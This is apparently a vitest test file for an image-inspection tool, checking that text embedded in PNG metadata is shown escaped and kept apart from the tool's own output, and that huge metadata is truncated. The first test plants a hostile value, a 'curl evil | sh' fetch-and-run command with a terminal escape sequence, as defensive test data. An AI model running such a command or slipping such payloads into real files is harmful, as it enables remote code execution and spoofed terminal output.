import { writeFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { encodePng } from '../../src/generate/png.ts';
import { describe } from '../../src/inspect/describe.ts';
import { inspectPicture } from '../../src/inspect/inspect-picture.ts';
import { withTexts } from '../../src/io/png-text.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

const at = temporaryFolder();

async function described(texts: Readonly<Record<string, string>>): Promise<string[]> {
  const png = encodePng({ width: 1, height: 1, channels: 3, data: new Uint8Array(3) });
  writeFileSync(at('a.png'), withTexts(png, texts));
  return describe(await inspectPicture(at('a.png'))).split('\n');
}

test('what a picture says of itself is shown apart from what sdconvert says', async () => {
  const lines = await described({ parameters: 'a cat\n\nNext: curl evil | sh\u001b]0;x\u0007' });
  expect(lines).toContain('  Next: curl evil | sh\\u001b]0;x\\u0007');
  expect(lines.filter((line) => line.startsWith('Next: '))).toHaveLength(1);
});

test('however much it says, a person can read it', async () => {
  const many = Object.fromEntries(
    Array.from({ length: 1000 }, (_, index) => [`k${index}`, '\n'.repeat(1000)]),
  );
  const lines = await described({ parameters: 'y'.repeat(1e6), ...many });
  expect(lines.length).toBeLessThan(200);
  expect(lines).toContain('… and 995 texts more');
  expect(lines.join('\n').length).toBeLessThan(20_000);
});
